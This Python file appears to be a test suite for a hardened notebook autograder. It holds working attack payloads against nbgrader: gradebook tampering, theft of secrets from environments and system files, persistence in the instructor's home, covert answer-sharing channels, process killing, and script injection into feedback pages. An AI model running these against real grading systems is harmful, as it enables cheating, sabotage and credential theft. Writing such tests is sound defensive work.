"""Attacks on the course, on other students, on the network, and on the machine that grades."""

import sqlite3
from collections.abc import Callable
from pathlib import Path

from attack import TOKEN, VICTIM, Attack, World
from bs4 import BeautifulSoup

# Plain nbgrader runs a notebook in the course's folder. ROOT is where the course lies: an attacker
# may know it, or look for it.
_PLACES = '["../../..", "ROOT"]'
_MARKER = "3000.{number:03}"  # seconds that a survivor sleeps; nobody else sleeps so long


def _printed(text: str, words: str) -> Callable[[World], str]:
    return lambda world: words if text in world.outputs() else ""


def _exists(path: Callable[[World], Path], words: str) -> Callable[[World], str]:
    return lambda world: words if path(world).exists() else ""


def _manual_scores(world: World) -> str:
    with sqlite3.connect(f"file:{world.root / 'gradebook.db'}?mode=ro", uri=True) as database:
        (given,) = database.execute("select count(manual_score) from grade").fetchone()
    return "scores written into the gradebook" if given else ""


def _heard(world: World) -> str:
    return "a message left the machine" if b"answers" in world.heard else ""


def survivors(text: str) -> int:
    """Count the processes that were started with this argument."""
    found = 0
    for process in Path("/proc").glob("[0-9]*"):
        try:
            found += text in (process / "cmdline").read_text().split("\0")
        except (OSError, UnicodeDecodeError):  # it has just ended
            continue
    return found


def _survives(number: int, words: str) -> Callable[[World], str]:
    return lambda world: words if survivors(_MARKER.format(number=number)) else ""


def _sleeper(number: int) -> str:
    return f'os.execvp("sleep", ["sleep", "{_MARKER.format(number=number)}"])'


_WRITE_GRADEBOOK = f"""
import sqlite3
for place in {_PLACES}:
    try:
        with sqlite3.connect(f"file:{{place}}/gradebook.db?mode=rw", uri=True) as database:
            database.execute("update grade set manual_score = 2, needs_manual_grade = 0")
    except sqlite3.Error as error:
        print(error)
"""

_RUN_CELLS = """
import json
def take(path):
    for cell in json.load(open(path))["cells"]:
        if cell["metadata"].get("nbgrader", {{}}).get("solution"):
            exec("".join(cell["source"]), globals())
for place in {places}:
    try:
        take(f"{{place}}/{path}")
    except OSError as error:
        print(error)
taken = {{name: globals()[name] for name in ("double", "average", "half", "multiples")}}
get_ipython().events.register("pre_run_cell", lambda *all: globals().update(taken))
"""
_ANSWERS = _RUN_CELLS.format(places=_PLACES, path="source/01_numbers/01_numbers.ipynb")
_NEIGHBOR = _RUN_CELLS.format(
    places=_PLACES, path=f"submitted/{VICTIM}/01_numbers/01_numbers.ipynb"
)

_DELETE = f"""
import shutil
for place in {_PLACES}:
    shutil.rmtree(f"{{place}}/submitted/{VICTIM}", ignore_errors=True)
"""

_READ = """
for path in ("/etc/passwd", "ROOT/nbgrader_config.py"):
    try:
        print(open(path).read())
    except OSError as error:
        print(error)
"""

_ENVIRONMENT = """
import os
print(dict(os.environ))
for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ"):
    try:
        print(open(path).read())
    except OSError as error:
        print(error)
"""

_HOME = """
import os, pathlib
for home in {os.path.expanduser("~"), "HOME"}:
    try:
        start = pathlib.Path(home, ".ipython", "profile_default", "startup")
        start.mkdir(parents=True, exist_ok=True)
        cheat = "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\\\n'])"
        (start / "00.py").write_text(cheat)
    except OSError as error:
        print(error)
"""

_WORDS = """
def double(x): return 2 * x
def half(x): return x / 2
def average(values): return sum(values) / len(values)
def multiples(x): return [x * k for k in range(10)]
"""
_DROP = f"""
answers = {_WORDS!r}
import os
for place in ("/tmp", "/var/tmp", "/dev/shm", "ROOT"):
    try:
        open(f"{{place}}/PORT.answers", "w").write(answers)
    except OSError as error:
        print(error)
"""
_PICK_UP = """
for place in ("/tmp", "/var/tmp", "/dev/shm", "ROOT"):
    try:
        exec(open(f"{place}/PORT.answers").read())
        taken = {name: globals()[name] for name in ("double", "average", "half", "multiples")}
        get_ipython().events.register("pre_run_cell", lambda *all: globals().update(taken))
    except OSError as error:
        print(error)
"""

# A letter in the cache of a file that every room sees: a page that is in memory is a 1. To ask for
# a page brings it in, so each is asked for once.
_PAGES = """
import importlib.util, os, pathlib, time
folder = pathlib.Path(importlib.util.find_spec("opendp").origin).parent / "lib"
shared, ready = os.open(next(folder.glob("*.so")), os.O_RDONLY), range(4000, 4300)
os.posix_fadvise(shared, 0, 0, os.POSIX_FADV_RANDOM)
"""
_PAGE_LETTER = (
    _PAGES
    + f"""
bits = "".join(f"{{byte:08b}}" for byte in {_WORDS!r}.encode())
os.posix_fadvise(shared, 0, 0, os.POSIX_FADV_DONTNEED)
for page in [place for place, bit in enumerate(bits) if bit == "1"] + [*ready]:
    os.pread(shared, 1, page << 12)
"""
)
_READ_PAGES = (
    _PAGES
    + """
def there(page):
    try:
        return str(os.preadv(shared, [bytearray(1)], page << 12, os.RWF_NOWAIT))
    except BlockingIOError:
        return "0"
try:
    for page in ready:
        if there(page) + there(page + len(ready)) == "10":
            break
        time.sleep(0.01)
    bits = "".join(map(there, range(3200)))
    words = bytes(int(bits[start : start + 8], 2) for start in range(0, 3200, 8))
    exec(words.rstrip(bytes(1)))
    taken = {name: globals()[name] for name in ("double", "average", "half", "multiples")}
    get_ipython().events.register("pre_run_cell", lambda *all: globals().update(taken))
except (OSError, SyntaxError, ValueError) as error:
    print(error)
"""
)

_NETWORK = """
import socket
try:
    with socket.create_connection(("127.0.0.1", PORT), 3) as connection:
        connection.sendall(b"answers")
except OSError as error:
    print(error)
"""

_DAEMON = f"""
import os
if not os.fork():
    os.setsid()
    if not os.fork():
        {_sleeper(1)}
    os._exit(0)
"""

_PARENT = "\nimport os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
_EVERYBODY = "\nimport os, signal\nos.kill(-1, signal.SIGKILL)\n"
_STOPPED = "\nimport os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n"
_EXIT = "\nimport os\nos._exit(0)\n"

_SYS_EXIT = """
import sys
def double(x): sys.exit(0)
def average(values): raise KeyboardInterrupt
"""

_LOCKED = """
import os
os.makedirs("closed/inner")
os.chmod("closed", 0)
os.chmod(".", 0)
"""

_CHAIN = """
import os
for _ in range(1500):
    os.mkdir("a")
    os.chdir("a")
os.chdir("/")
"""

_LINKS = """
import os
for name in ("01_numbers.ipynb", "data.csv"):
    os.remove(name)
    os.symlink("ROOT/gradebook.db", name)
"""

_DESCRIPTORS = """
import os
for number in range(3, 256):
    try:
        os.write(number, b"\\xff" * 64)
    except OSError:
        pass
"""

_MALFORMED = """
kernel = get_ipython().kernel
for content in ({"name": "stdout"}, {"data": 3}, {"name": 7, "text": ["x"]}):
    for kind in ("stream", "display_data", "execute_result", "error"):
        kernel.session.send(kernel.iopub_socket, kind, content, kernel.get_parent())
"""

_SCRIPT = """
from IPython.display import HTML, Javascript, display
display(HTML("<script>hostile()</script><img src=x onerror='hostile()'>"))
display(Javascript("hostile()"))
"""


def _script(world: World) -> str:
    path = world.path("feedback", suffix="html")
    page = BeautifulSoup(path.read_bytes() if path.exists() else b"", "html.parser")
    scripts = [each for each in page.find_all("script") if "hostile" in each.text]
    found = scripts or page.find_all(onerror=True)
    return "its script runs in the page that is sent back" if found else ""


# A bit that every room sees: is there a lock on a file of Python's?
_SHARED_LOCKS = """
import ctypes, fcntl, os
shared, libc = open(os.__file__), ctypes.CDLL(None)
ways = {
    "flock": lambda: fcntl.flock(shared, fcntl.LOCK_EX | fcntl.LOCK_NB),
    "F_GETLK": lambda: fcntl.fcntl(shared, 5, bytes([1]) + bytes(31)),
    "F_OFD_GETLK": lambda: fcntl.fcntl(shared, 36, bytes([1]) + bytes(31)),
    "F_OFD_SETLK": lambda: fcntl.fcntl(shared, 37, bytes(32)),
    "inotify": lambda: 1 / (libc.inotify_add_watch(libc.inotify_init(), b"/usr", 32) > 0),
}
for name, way in ways.items():
    try:
        way()
        print("shared:", name)
    except (OSError, ZeroDivisionError):
        pass
"""

ATTACKS = [
    Attack(
        "shared_locks",
        "talks to another student's code by locks on files that both see",
        plain="it can talk to another student's code; 0 / 10",
        ours="0 / 10",
        code=_SHARED_LOCKS,
        harm=_printed("shared: ", "it can talk to another student's code"),
    ),
    Attack(
        "write_gradebook",
        "writes scores into the gradebook",
        plain="scores written into the gradebook; 12 / 10",
        ours="0 / 10",
        code=_WRITE_GRADEBOOK,
        harm=_manual_scores,
        alone=True,
    ),
    Attack(
        "run_answers",
        "runs the instructor's notebook",
        plain="10 / 10",
        ours="0 / 10",
        code=_ANSWERS,
    ),
    Attack(
        "run_neighbor",
        "runs another student's notebook",
        plain="10 / 10",
        ours="0 / 10",
        code=_NEIGHBOR,
    ),
    Attack(
        "delete_others",
        "deletes another student's work",
        plain="another student's work is gone; 0 / 10",
        ours="0 / 10",
        code=_DELETE,
        alone=True,
    ),
    Attack(
        "read_files",
        "prints files of the machine and of the course",
        plain="the course's settings are in the notebook; 0 / 10",
        ours="0 / 10",
        code=_READ,
        harm=_printed("c.CourseDirectory.course_id", "the course's settings are in the notebook"),
    ),
    Attack(
        "read_environment",
        "prints the environment of the one who grades, with keys and tokens",
        plain="a secret of the instructor's is in the notebook; 0 / 10",
        ours="0 / 10",
        code=_ENVIRONMENT,
        harm=_printed(TOKEN, "a secret of the instructor's is in the notebook"),
    ),
    Attack(
        "code_in_home",
        "leaves code in the instructor's home folder, which runs whenever IPython starts",
        plain="code is left in the instructor's home; a friend, graded later, has 10 / 10; 0 / 10",
        ours="0 / 10",
        code=_HOME,
        friend="\npass\n",
        harm=_exists(
            lambda world: world.home / ".ipython/profile_default/startup/00.py",
            "code is left in the instructor's home",
        ),
        alone=True,
    ),
    Attack(
        "answers_for_a_friend",
        "leaves answers where a friend's notebook, graded later, finds them",
        plain="a friend, graded later, has 10 / 10; 0 / 10",
        ours="0 / 10",
        code=_DROP,
        friend=_PICK_UP,
    ),
    Attack(
        "letter_in_page_cache",
        "leaves a friend answers in the cache of a library's pages: each page in memory is a bit",
        plain="a friend, graded later, has 10 / 10; 0 / 10",
        ours="0 / 10",
        code=_PAGE_LETTER,
        friend=_READ_PAGES,
    ),
    Attack(
        "network",
        "sends what it has found over the network",
        plain="a message left the machine; 0 / 10",
        ours="0 / 10",
        code=_NETWORK,
        harm=_heard,
    ),
    Attack(
        "daemon",
        "starts a process that outlives the kernel",
        plain="a process lives on; 0 / 10",
        ours="0 / 10",
        code=_DAEMON,
        harm=_survives(1, "a process lives on"),
    ),
    Attack(
        "kill_parent",
        "kills the process that started it: the grader",
        plain="grading stops: the next student has no score; no score",
        ours="0 / 10",
        code=_PARENT,
        alone=True,
    ),
    Attack(
        "kill_everybody",
        "kills every process that it may",
        plain="grading stops: the next student has no score; no score",
        ours="0 / 10",
        code=_EVERYBODY,
        alone=True,
    ),
    Attack(
        "stop_itself",
        "stops its own process without ending it",
        plain="no score",
        ours="0 / 10",
        code=_STOPPED,
    ),
    Attack(
        "exit_at_once",
        "ends its process",
        plain="no score",
        ours="0 / 10 (kernel died; not run)",
        code=_EXIT,
    ),
    Attack(
        "exit_in_answer",
        "exits from inside an answer",
        plain="0 / 10",
        ours="0 / 10",
        code=_SYS_EXIT,
    ),
    Attack(
        "locked_folder",
        "takes away all permissions of its own folder",
        plain="grading stops: the next student has no score; 0 / 10",
        ours="0 / 10",
        code=_LOCKED,
        alone=True,
    ),
    Attack(
        "folder_chain",
        "makes 1,500 folders, each in the one before: few programs can delete them",
        plain="grading stops: the next student has no score; no score",
        ours="0 / 10",
        code=_CHAIN,
        alone=True,
    ),
    Attack(
        "links_in_folder",
        "replaces its own files by links to the gradebook while it is graded",
        plain="the gradebook is destroyed; no score",
        ours="0 / 10",
        code=_LINKS,
        alone=True,
    ),
    Attack(
        "garbage_in_descriptors",
        "writes garbage into every open file and connection",
        plain="grading never ends; no score",
        ours="0 / 10 (kernel died; not run)",
        code=_DESCRIPTORS,
        alone=True,
        patience=25,
        # Which of its files its own process reads first is not the same at each run.
        sometimes={"plain": "no score"},
    ),
    Attack(
        "malformed_messages",
        "sends the grader messages that lack what every message has",
        plain="no score",
        ours="0 / 10 (kernel died; not run)",
        code=_MALFORMED,
    ),
    Attack(
        "script_in_output",
        "shows a script that runs in the browser of who opens the page",
        plain="its script runs in the page that is sent back; 0 / 10",
        ours="0 / 10",
        code=_SCRIPT,
        harm=_script,
        feedback=True,
    ),
]
